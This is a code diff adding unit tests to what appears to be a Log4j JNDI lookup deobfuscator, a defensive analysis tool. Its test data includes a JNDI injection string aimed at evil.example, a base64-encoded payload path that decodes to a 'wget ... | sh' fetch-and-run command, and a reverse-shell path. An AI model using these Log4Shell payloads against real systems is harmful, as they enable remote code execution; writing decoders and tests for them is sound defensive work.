@@ -1,7 +1,7 @@
 """Unit tests of the Log4j lookup deobfuscator (python3 -m unittest inside the image)."""
 import unittest
 
-from lookups import deobfuscate, parse_jndi
+from lookups import deobfuscate, jndi_command, parse_jndi
 
 LDAP = "${jndi:ldap://evil.example:1389/a}"
 
@@ -76,6 +76,17 @@ class ParseJndi(unittest.TestCase):
         self.assertEqual(parse_jndi("${jndi:ldap://h:99999/p}"), ("ldap", "h", None, "/p"))
         self.assertEqual(parse_jndi("${jndi:${env:X}}"), (None, None, None, None))
         self.assertEqual(parse_jndi("${jndi:iiop:x}"), ("iiop", None, None, None))
+
+
+class Command(unittest.TestCase):
+    def test_base64_command(self):
+        self.assertEqual(jndi_command("/Basic/Command/Base64/d2dldCAtcSBodHRwOi8vZS94fHNo"),
+                         "wget -q http://e/x|sh")
+        self.assertEqual(jndi_command("/basic/command/base64/aWQ"), "id")     # no padding
+        self.assertEqual(jndi_command("/Basic/Command/Base64/aWQ%3D"), "id")  # URL-encoded
+        self.assertEqual(jndi_command("/Basic/ReverseShell/1.2.3.4/9999"), None)
+        self.assertEqual(jndi_command("/Basic/Command/Base64/AAEC"), None)   # not text
+        self.assertEqual(jndi_command(None), None)
 
 
 if __name__ == "__main__":
